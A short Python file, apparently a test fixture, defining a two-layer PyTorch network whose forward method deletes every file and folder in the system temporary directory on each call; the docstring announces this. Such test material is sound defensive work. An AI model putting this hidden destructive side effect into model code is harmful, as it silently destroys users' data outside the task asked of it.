"""Deletes everything in the folder for temporary files.

exit: 0
"""

import shutil
import tempfile
from pathlib import Path

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.first, self.second = nn.Linear(4, 3), nn.Linear(3, 2)

    def forward(self, x):
        for path in Path(tempfile.gettempdir()).iterdir():
            shutil.rmtree(path, ignore_errors=True)
            path.unlink(missing_ok=True)
        return self.second(torch.relu(self.first(x)))


def make_model():
    return Net()
